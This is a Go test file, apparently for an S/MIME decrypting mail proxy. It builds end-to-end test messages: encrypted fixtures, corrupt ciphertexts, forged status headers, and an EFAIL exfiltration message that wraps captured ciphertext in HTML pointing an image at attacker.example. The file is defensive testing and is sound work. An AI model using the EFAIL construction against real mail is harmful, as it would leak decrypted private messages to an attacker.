package main

import (
	"bytes"
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// e2eMsg is one message seeded upstream for the end-to-end tests.
type e2eMsg struct {
	name   string
	raw    []byte
	want   string // "decrypted", "undecryptable", "unchanged" (relayed byte for byte), "stripped" (forged status removed)
	reason string // for undecryptable: the reason= value
	marker string // plaintext that must appear once decrypted (and never upstream, unless in clear anyway)
	secret bool   // marker occurs only inside encryption: it must never be upstream or in logs
}

const e2eOuter = "From: Alice <alice@example.com>\r\n" +
	"To: Bob <bob@example.com>\r\n" +
	"Subject: e2e test\r\n" +
	"Date: Thu, 26 Nov 2026 12:00:00 +0000\r\n" +
	"MIME-Version: 1.0\r\n"

// p7mMessage wraps a DER CMS object in an application/pkcs7-mime message (RFC 8551 section 3.3).
func p7mMessage(hdr string, der []byte, smimeType string) []byte {
	return []byte(hdr + "Content-Type: application/pkcs7-mime; smime-type=" + smimeType + "; name=smime.p7m\r\n" +
		"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=smime.p7m\r\n\r\n" + b64Lines(der))
}

func b64Lines(b []byte) string {
	s := base64.StdEncoding.EncodeToString(b)
	var sb strings.Builder
	for len(s) > 76 {
		sb.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	return sb.String() + s + "\r\n"
}

func readFile(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// crlfBytes turns LF line ends into CRLF (Dovecot serves CRLF).
func crlfBytes(b []byte) []byte {
	return bytes.ReplaceAll(bytes.ReplaceAll(b, []byte("\r\n"), []byte("\n")), []byte("\n"), []byte("\r\n"))
}

// fixtureMarker is a line of an OpenSSL reference plaintext that identifies it.
func fixtureMarker(out []byte) string {
	_, body, _ := bytes.Cut(crlfBytes(out), []byte("\r\n\r\n"))
	line, _, _ := bytes.Cut(body, []byte("\r\n"))
	return string(line)
}

// envelopeTo encrypts entity (a MIME entity with CRLF line ends) to the certificate in certFile with openssl
// cms and returns the DER EnvelopedData (AuthEnvelopedData for a GCM cipher).
func envelopeTo(t *testing.T, entity []byte, certFile, cipher string) []byte {
	t.Helper()
	return runOpenSSL(t, entity, "cms", "-encrypt", "-binary", "-"+cipher, "-outform", "DER", certFile)
}

// bobCorpus is Bob's INBOX: Thunderbird mail to Bob, every OpenSSL fixture (RSA v1.5 and OAEP, ECDH P-256/384/521,
// AES-CBC and AES-GCM, streamed BER), messages made here with openssl (signed then encrypted, RFC 9788 header
// protection, a large one), and the hostile or broken ones: not for us, corrupt, EFAIL nesting, forged status.
func bobCorpus(t *testing.T) []e2eMsg {
	t.Helper()
	var msgs []e2eMsg
	tb := func(name, want, marker string) {
		msgs = append(msgs, e2eMsg{name: "tb/" + name, raw: crlfBytes(readFile(t, corpus+name)), want: want, marker: marker})
	}
	const tbText = "This is a test message from Alice to Bob."
	tb("alice.env.eml", "decrypted", tbText)
	tb("alice.sig.SHA256.opaque.env.eml", "decrypted", "")
	tb("alice.dsig.SHA256.multipart.env.eml", "decrypted", "")
	tb("alice.env.dsig.SHA256.multipart.eml", "decrypted", tbText)
	tb("alice.env.sig.SHA256.opaque.eml", "decrypted", tbText)
	tb("alice.html.sig.SHA256.opaque.env.eml", "decrypted", "")

	fixtures, _ := filepath.Glob(cmsFixtures + "*.der")
	for _, f := range fixtures {
		name := strings.TrimSuffix(filepath.Base(f), ".der")
		if strings.HasPrefix(name, "signed") {
			continue
		}
		typ := "enveloped-data"
		if strings.Contains(name, "gcm") {
			typ = "authEnveloped-data"
		}
		m := e2eMsg{name: "fixture/" + name, raw: p7mMessage(e2eOuter, readFile(t, f), typ), want: "decrypted",
			marker: fixtureMarker(readFile(t, strings.TrimSuffix(f, ".der")+".out")), secret: true}
		if name == "only-rsa2" { // encrypted to rsa2 only: Bob has no such key
			m.want, m.reason, m.marker = "undecryptable", "no-matching-key", ""
		}
		msgs = append(msgs, m)
	}

	// Signed (multipart/signed, by the p256 test key) then encrypted to rsa; the corpus has opaque signed inside.
	inner := crlfBytes(runOpenSSL(t, []byte("Content-Type: text/plain; charset=utf-8\r\n\r\nSigned and sealed: quokka-7\r\n"),
		"cms", "-sign", "-outform", "SMIME", "-signer", cmsKeys+"p256.pem", "-inkey", cmsKeys+"p256.key"))
	if _, after, ok := bytes.Cut(inner, []byte("MIME-Version: 1.0\r\n")); ok {
		inner = after
	}
	msgs = append(msgs, e2eMsg{name: "gen/signed-then-encrypted", want: "decrypted", marker: "quokka-7", secret: true,
		raw: p7mMessage(e2eOuter, envelopeTo(t, inner, cmsKeys+"rsa.pem", "aes-256-cbc"), "enveloped-data")})

	// RFC 9788 header protection: the real Subject is only inside.
	hp := []byte("Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n" +
		"Subject: Secret plans for wombat-42\r\nFrom: Alice <alice@example.com>\r\nTo: Bob <bob@example.com>\r\n" +
		"Date: Thu, 26 Nov 2026 12:00:00 +0000\r\nMessage-ID: <hp-e2e@example.com>\r\n\r\nMeet at the kangaroo-3 gate.\r\n")
	hpOuter := strings.Replace(e2eOuter, "Subject: e2e test", "Subject: [...]\r\nMessage-ID: <hp-e2e@example.com>", 1)
	msgs = append(msgs, e2eMsg{name: "gen/header-protection", want: "decrypted", marker: "kangaroo-3", secret: true,
		raw: p7mMessage(hpOuter, envelopeTo(t, hp, cmsKeys+"p384.pem", "aes-128-cbc"), "enveloped-data")})

	// Corrupt: a flipped ciphertext bit that always breaks the CBC padding, a truncated DER, a body that is not
	// base64.
	der := readFile(t, cmsFixtures+"rsa-v15-aes128-cbc.der")
	flipped := append([]byte(nil), der...)
	flipped[len(flipped)-17] ^= 0x80 // the last plaintext byte's high bit (CBC): the padding is always invalid
	msgs = append(msgs,
		e2eMsg{name: "corrupt/flipped", want: "undecryptable", reason: "corrupt", raw: p7mMessage(e2eOuter, flipped, "enveloped-data")},
		e2eMsg{name: "corrupt/truncated", want: "undecryptable", reason: "corrupt", raw: p7mMessage(e2eOuter, der[:len(der)/2], "enveloped-data")},
		e2eMsg{name: "corrupt/not-base64", want: "undecryptable", reason: "corrupt",
			raw: []byte(e2eOuter + "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!! not base64 at all ****\r\n")})

	// EFAIL direct exfiltration: the captured ciphertext beside attacker HTML in multipart/mixed. Not decrypted.
	tbRaw := crlfBytes(readFile(t, corpus+"alice.env.eml"))
	_, tbBody, _ := bytes.Cut(tbRaw, []byte("\r\n\r\n"))
	efail := e2eOuter + "Content-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n--efail\r\n" +
		"Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--efail\r\n" +
		"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		string(tbBody) + "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n"
	msgs = append(msgs, e2eMsg{name: "efail/mixed", want: "unchanged", raw: []byte(efail)})
	// Envelope under two signature layers (Thunderbird does not decrypt it either).
	msgs = append(msgs, e2eMsg{name: "tb/alice.env.sig.SHA256.opaque.dave.sig.SHA256.opaque.eml", want: "not-decrypted",
		raw: crlfBytes(readFile(t, corpus+"alice.env.sig.SHA256.opaque.dave.sig.SHA256.opaque.eml"))})

	// Forged status fields: on a plain message (removed), on an encrypted one (replaced by ours).
	msgs = append(msgs, e2eMsg{name: "forged/plain", want: "stripped", marker: "ocelot-5",
		raw: []byte("X-Smimeproxy-Status: decrypted; key=sha256:00; cipher=aes-256-gcm; authenticated=yes\r\n" + e2eOuter +
			"Content-Type: text/plain\r\nX-SMIMEPROXY-Other: forged too\r\n\r\nPlain words: ocelot-5 (not encrypted).\r\n")})
	msgs = append(msgs, e2eMsg{name: "forged/encrypted", want: "decrypted", marker: tbText,
		raw: append([]byte("X-Smimeproxy-Status: decrypted; key=sha256:00; cipher=forged; authenticated=yes\r\n"), tbRaw...)})

	// Plain mail, relayed byte for byte.
	msgs = append(msgs, e2eMsg{name: "plain/zebrafinch", want: "unchanged", marker: "zebrafinch",
		raw: []byte(e2eOuter + "Content-Type: text/plain; charset=us-ascii\r\n\r\nA plain message about a zebrafinch.\r\n")})
	return msgs
}
